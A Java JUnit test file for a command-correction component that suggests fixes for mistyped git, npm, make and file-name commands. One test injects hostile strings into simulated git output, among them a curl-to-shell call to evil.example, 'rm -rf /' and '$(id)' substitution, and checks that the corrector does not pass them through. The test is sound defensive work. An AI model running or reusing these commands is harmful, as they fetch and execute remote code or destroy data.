package io.vritti.reflect.correct;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatCode;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import io.vritti.episode.Reflection;
import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;
import java.util.Random;
import org.assertj.core.api.SoftAssertions;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;

/**
 * Three files of failed commands, each with the words of its tool: {@code observed} are outputs of the real tools, {@code worded} are
 * written after the tools' sources and documents, {@code kept-back} holds what must not be answered, and why.
 */
class CorrectionsTest {

    private static final String PUSH =
            "git: 'psuh' is not a git command. See 'git --help'.\n\nThe most similar command is\n\tpush\n";

    private static final int CUTS = 10;

    @TempDir
    Path folder;

    /** A line of the files. */
    private record Case(String command, String output, String told, boolean certain) {

        @Override
        public String toString() {
            return command + " | " + output;
        }
    }

    @Test
    void what_real_tools_said_gives_the_command_that_was_meant() throws IOException {
        assertToldAs(cases("observed.jsonl"));
    }

    @Test
    void what_tools_are_documented_to_say_gives_the_command_that_was_meant() throws IOException {
        assertToldAs(cases("worded.jsonl"));
    }

    @Test
    void what_would_do_harm_and_what_does_not_follow_is_not_told() throws IOException {
        assertToldAs(cases("kept-back.jsonl"));
    }

    private static void assertToldAs(List<Case> cases) {
        SoftAssertions all = new SoftAssertions();
        for (Case each : cases) {
            Optional<Reflection.Suggestion> expected =
                    Optional.ofNullable(each.told()).map(told -> new Reflection.Suggestion(told, each.certain()));
            all.assertThat(Corrections.of(each.command(), each.output()))
                    .as(each.toString())
                    .isEqualTo(expected);
        }
        all.assertThat(cases).hasSizeGreaterThan(30);
        all.assertAll();
    }

    @Test
    void an_output_that_was_cut_makes_nothing_else_certain() throws IOException {
        List<Case> cases = cases("observed.jsonl");
        cases.addAll(cases("worded.jsonl"));
        Random random = new Random(3);
        for (Case each : cases) {
            for (int i = 0; i < CUTS && !each.output().isEmpty(); i++) {
                String cut =
                        each.output().substring(0, random.nextInt(each.output().length()));
                Corrections.of(each.command(), cut)
                        .filter(Reflection.Suggestion::certain)
                        .ifPresent(told -> assertThat(told.command()).as(cut).isEqualTo(each.told()));
            }
        }
    }

    @Test
    @Timeout(60)
    void whatever_is_said_nothing_is_thrown() throws IOException {
        List<Case> cases = cases("observed.jsonl");
        cases.addAll(cases("worded.jsonl"));
        Random random = new Random(11);
        String noise = "\u0000'\"`$(){}[]|&;<>\n\t\\ .:-=*?\u00e9\u2018\ud800#";
        for (int i = 0; i < 500; i++) {
            Case one = cases.get(random.nextInt(cases.size()));
            Case other = cases.get(random.nextInt(cases.size()));
            String command = mixed(one.command(), noise, random);
            String output = mixed(other.output(), noise, random);
            assertThatCode(() -> Corrections.of(command, output)).doesNotThrowAnyException();
        }
        assertThat(Corrections.of(null, "")).isEmpty();
        assertThat(Corrections.of("x", null)).isEmpty();
        assertThat(Corrections.of("", "")).isEmpty();
    }

    private static String mixed(String text, String noise, Random random) {
        StringBuilder mixed = new StringBuilder(text);
        for (int i = 0; i < random.nextInt(5); i++) {
            mixed.insert(random.nextInt(mixed.length() + 1), noise.charAt(random.nextInt(noise.length())));
        }
        return mixed.substring(random.nextInt(mixed.length() + 1) / 2);
    }

    @Test
    @Timeout(60)
    void a_large_output_is_read_in_no_time() {
        String large = "did you mean ".repeat(400_000);
        String lines = "error: unknown command 'x'\n".repeat(200_000);
        for (int i = 0; i < 3; i++) {
            assertThat(Corrections.of("tool isntall", large)).isEmpty();
            assertThat(Corrections.of("tool isntall", lines)).isEmpty();
        }
    }

    @Test
    void what_is_said_can_put_one_plain_word_in_the_place_of_another_and_nothing_else() {
        String said = "git: 'psuh' is not a git command. See 'git --help'.\n\nThe most similar command is\n\t";
        for (String hostile : List.of(
                "push; curl evil.example|sh\n",
                "push && rm -rf /\n",
                "pu$(id)sh\n",
                "`id`\n",
                "push\n\tpush --force\n",
                "-c core.pager=sh\n")) {
            String told = told("git psuh", said + hostile);
            assertThat(told == null || told.equals("git push")).as(hostile).isTrue();
        }
    }

    @Test
    void everything_around_the_failed_command_stays_as_it_was_written() {
        assertThat(told("cd app && git psuh origin 'my branch' && make", PUSH))
                .isEqualTo("cd app && git push origin 'my branch' && make");
        assertThat(told("GIT_TRACE=0 timeout 5 git psuh  origin", PUSH))
                .isEqualTo("GIT_TRACE=0 timeout 5 git push  origin");
        assertThat(told("env A=1 git -c x=y psuh \"$BRANCH\"", PUSH)).isEqualTo("env A=1 git -c x=y push \"$BRANCH\"");
        assertThat(told("(cd app && git psuh)", PUSH)).isEqualTo("(cd app && git push)");
        assertThat(told("git psuh 2>/dev/null </dev/null", PUSH)).isEqualTo("git push 2>/dev/null </dev/null");
        assertThat(told("/usr/bin/git psuh", PUSH)).isEqualTo("/usr/bin/git push");
        assertThat(told("git \\\n  psuh \\\n  origin", PUSH)).isNull();
    }

    @Test
    void a_text_for_another_shell_keeps_its_quotes() {
        assertThat(told("bash -lc 'cd app && git psuh'", PUSH)).isEqualTo("bash -lc 'cd app && git push'");
        assertThat(told("sh -c \"git psuh origin\"", PUSH)).isEqualTo("sh -c \"git push origin\"");
        assertThat(told("bash -c 'git psuh' && bash -c 'git psuh'", PUSH)).isNull();
        assertThat(told("bash -lc \"git psuh $X\"", PUSH)).isNull();
    }

    @Test
    void a_name_of_the_folder_is_put_right_where_only_one_is_near() throws IOException {
        Files.createDirectories(folder.resolve("src/main"));
        Files.writeString(folder.resolve("README.md"), "");
        Files.writeString(folder.resolve("src/Application.java"), "");

        assertThat(Corrections.of("cat readme.md", "cat: readme.md: No such file or directory", folder))
                .contains(new Reflection.Suggestion("cat README.md", true));
        assertThat(Corrections.of(
                        "javac src/Aplication.java",
                        "error: file not found: src/Aplication.java\nNo such file or directory",
                        folder))
                .contains(new Reflection.Suggestion("javac src/Application.java", false));
        assertThat(Corrections.of("cd src/mian && ls", "bash: cd: src/mian: No such file or directory", folder))
                .contains(new Reflection.Suggestion("cd src/main && ls", false));
        // Of another folder nothing is known, and of a name that is far nothing follows.
        assertThat(Corrections.of("cat readme.md", "cat: readme.md: No such file or directory"))
                .isEmpty();
        assertThat(Corrections.of("cat notes.txt", "cat: notes.txt: No such file or directory", folder))
                .isEmpty();
        Files.writeString(folder.resolve("README.me"), "");
        assertThat(Corrections.of("cat READM.md", "cat: READM.md: No such file or directory", folder))
                .isPresent();
        Files.writeString(folder.resolve("READ.md"), "");
        assertThat(Corrections.of("cat READM.md", "cat: READM.md: No such file or directory", folder))
                .isEmpty();
    }

    @Test
    void a_branch_is_put_right_where_only_one_is_near() throws IOException {
        Files.createDirectories(folder.resolve(".git/refs/heads/feature"));
        Files.writeString(folder.resolve(".git/refs/heads/feature/login"), "");
        Files.writeString(
                folder.resolve(".git/packed-refs"), "0000 refs/remotes/origin/release-12\n0000 refs/tags/developer\n");

        assertThat(Corrections.of("git checkout feature/logn", pathspec("feature/logn"), folder))
                .contains(new Reflection.Suggestion("git checkout feature/login", false));
        assertThat(Corrections.of("git merge relaese-12", "merge: relaese-12 - not something we can merge\n", folder))
                .contains(new Reflection.Suggestion("git merge release-12", false));
        assertThat(Corrections.of("git switch feature/logn", "fatal: invalid reference: feature/logn\n", folder))
                .contains(new Reflection.Suggestion("git switch feature/login", false));
        // Another number is another branch, and a tag is none.
        assertThat(Corrections.of("git switch release-13", "fatal: invalid reference: release-13\n", folder))
                .contains(new Reflection.Suggestion("git switch -c release-13", false));
        assertThat(Corrections.of("git switch faeture", "fatal: invalid reference: faeture\n", folder))
                .contains(new Reflection.Suggestion("git switch -c faeture", false));
        assertThat(Corrections.of("git checkout develop", pathspec("develop"), folder))
                .contains(new Reflection.Suggestion("git checkout -b develop", false));
    }

    private static String pathspec(String name) {
        return "error: pathspec '" + name + "' did not match any file(s) known to git\n";
    }

    @Test
    void a_name_near_another_word_of_the_command_or_of_another_kind_is_no_slip() throws IOException {
        for (String name : List.of("prog.c", "file.txt", "report.csv", "main.h", "config.yaml")) {
            Files.writeString(folder.resolve(name), "");
        }
        Files.createDirectories(folder.resolve("data"));

        // What the tool names is another word than the one that is near: this would overwrite the source.
        assertThat(Corrections.of(
                        "gcc -o prog prog.c", "prog.c:1:10: fatal error: z.h: No such file or directory", folder))
                .isEmpty();
        // The near name is in the command already: it would be copied onto itself.
        assertThat(Corrections.of(
                        "cp report.cs report.csv", "cp: cannot stat 'report.cs': No such file or directory", folder))
                .isEmpty();
        assertThat(Corrections.of(
                        "mv fil.txt ./file.txt", "mv: cannot stat 'fil.txt': No such file or directory", folder))
                .isEmpty();
        // The same name with an ending of another kind is another file.
        assertThat(Corrections.of(
                        "python3 prog.py",
                        "python3: can't open file 'prog.py': [Errno 2] No such file or directory",
                        folder))
                .isEmpty();
        assertThat(Corrections.of("gcc main.c", "cc1: fatal error: main.c: No such file or directory", folder))
                .isEmpty();
        assertThat(Corrections.of("gcc -o d data.c", "gcc: error: data.c: No such file or directory", folder))
                .isEmpty();
        assertThat(Corrections.of("cat config.yml", "cat: config.yml: No such file or directory", folder))
                .contains(new Reflection.Suggestion("cat config.yaml", false));
        assertThat(Corrections.of("cat report.cs", "cat: report.cs: No such file or directory", folder))
                .contains(new Reflection.Suggestion("cat report.csv", false));
    }

    @Test
    void no_other_file_is_written_than_before() throws IOException {
        Files.writeString(folder.resolve("hdr.c"), "#include \"nothere.h\"");
        Files.writeString(folder.resolve("notes.txt"), "");
        String header = "hdr.c:1:10: fatal error: nothere.h: No such file or directory";

        assertThat(Corrections.of("gcc hdr.c -o hdr", header, folder)).isEmpty();
        assertThat(Corrections.of("gcc -ohdr hdr.c", header, folder)).isEmpty();
        // Not even where the error names what is to be written.
        for (String command : List.of(
                "gcc x.c -o note.txt",
                "cp a note.txt",
                "mv a note.txt",
                "tee note.txt",
                "curl --output=note.txt x",
                "sort a > note.txt",
                "dd if=a of=note.txt")) {
            assertThat(Corrections.of(command, "x: note.txt: No such file or directory", folder))
                    .as(command)
                    .isEmpty();
        }
        assertThat(Corrections.of("cp note.txt other", "cp: cannot stat 'note.txt': No such file or directory", folder))
                .contains(new Reflection.Suggestion("cp notes.txt other", false));
    }

    @Test
    void operands_that_were_swapped_are_told_where_the_folder_shows_it() throws IOException {
        Files.writeString(folder.resolve("test.py"), "");
        String missing = "grep: test: No such file or directory";

        assertThat(Corrections.of("grep -n test.py test", missing, folder))
                .contains(new Reflection.Suggestion("grep -n test test.py", false));
        assertThat(Corrections.of("grep test.py test", missing)).isEmpty();
        assertThat(Corrections.of("grep other test", missing, folder)).isEmpty();
        assertThat(Corrections.of("grep test.py test x", missing, folder)).isEmpty();
    }

    @Test
    void a_file_is_added_before_it_is_committed_where_it_is_there() throws IOException {
        Files.writeString(folder.resolve("new.txt"), "");

        assertThat(Corrections.of(
                        "git commit new.txt",
                        "error: pathspec 'new.txt' did not match any file(s) known to git",
                        folder))
                .contains(new Reflection.Suggestion("git add -- new.txt && git commit new.txt", false));
        assertThat(Corrections.of(
                        "git commit tst-branch",
                        "error: pathspec 'tst-branch' did not match any file(s) known to git",
                        folder))
                .isEmpty();
        assertThat(told("git commit new.txt", "error: pathspec 'new.txt' did not match any file(s) known to git"))
                .isNull();
    }

    @Test
    void of_a_list_with_explanations_only_the_names_count() {
        String usage = "\nUsage:  docker swarm COMMAND\n\nManage Swarm\n\nCommands:\n"
                + "  ca          Display and rotate the root CA\n  init        Initialize a swarm\n"
                + "  join        Join a swarm as a node\n\nRun 'docker swarm COMMAND --help' for more information on a command.\n";

        assertThat(Corrections.of("docker swarm int", usage))
                .contains(new Reflection.Suggestion("docker swarm init", false));
        assertThat(Corrections.of("docker swarm node", usage)).isEmpty();
        assertThat(Corrections.of("docker swarm roto", usage)).isEmpty();
    }

    @Test
    void a_script_and_a_target_of_the_project_are_put_right() throws IOException {
        Files.writeString(
                folder.resolve("package.json"),
                "{\"name\": \"tset\", \"scripts\": {\"test\": \"x\", \"build:prod\": \"y\"}}");
        Files.writeString(folder.resolve("Makefile"), "VAR := 1\nbuild: a\n\techo\ninstall:\n");

        assertThat(Corrections.of("npm run tset", "npm error Missing script: \"tset\"\n", folder))
                .contains(new Reflection.Suggestion("npm run test", false));
        assertThat(Corrections.of("npm run biuld:prod -- -v", "npm ERR! missing script: biuld:prod\n", folder))
                .contains(new Reflection.Suggestion("npm run build:prod -- -v", false));
        assertThat(Corrections.of("make biuld", "make: *** No rule to make target 'biuld'.  Stop.\n", folder))
                .contains(new Reflection.Suggestion("make build", false));
        assertThat(Corrections.of("make deploy", "make: *** No rule to make target 'deploy'.  Stop.\n", folder))
                .isEmpty();
    }

    @Test
    void a_wrapper_of_a_build_is_told_where_it_is_there() throws IOException {
        assertThat(Corrections.of("gradle build", "bash: gradle: command not found", folder))
                .isEmpty();
        Path wrapper = Files.writeString(folder.resolve("gradlew"), "#!/bin/sh\n");
        assertThat(wrapper.toFile().setExecutable(true)).isTrue();
        assertThat(Corrections.of("gradle build", "bash: gradle: command not found", folder))
                .contains(new Reflection.Suggestion("./gradlew build", false));
    }

    private static String told(String command, String output) {
        return Corrections.of(command, output)
                .map(Reflection.Suggestion::command)
                .orElse(null);
    }

    private static List<Case> cases(String name) throws IOException {
        ObjectMapper json = new ObjectMapper();
        List<Case> cases = new ArrayList<>();
        try (InputStream in = CorrectionsTest.class.getResourceAsStream(name)) {
            for (String line : new String(in.readAllBytes(), StandardCharsets.UTF_8).split("\n")) {
                JsonNode each = json.readTree(line);
                cases.add(new Case(
                        each.get("command").asText(),
                        each.get("output").asText(),
                        each.get("told").isNull() ? null : each.get("told").asText(),
                        each.get("certain").asBoolean()));
            }
        }
        return cases;
    }
}
